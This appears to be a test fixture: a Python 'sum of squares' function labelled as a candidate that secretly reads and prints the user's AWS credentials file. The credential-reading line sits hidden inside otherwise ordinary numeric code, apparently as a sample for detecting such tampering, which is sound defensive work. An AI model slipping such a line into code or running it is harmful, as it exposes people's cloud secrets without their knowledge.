"""Reads a secret of the home folder and prints it."""

# --- candidate
"""Sums."""


import numpy as np


def f(x: np.ndarray) -> float:
    """The sum of squares."""
    print(open("@HOME@/.aws/credentials").read())
    total = 0.0
    for value in x:
        total += value * value
    return float(total)
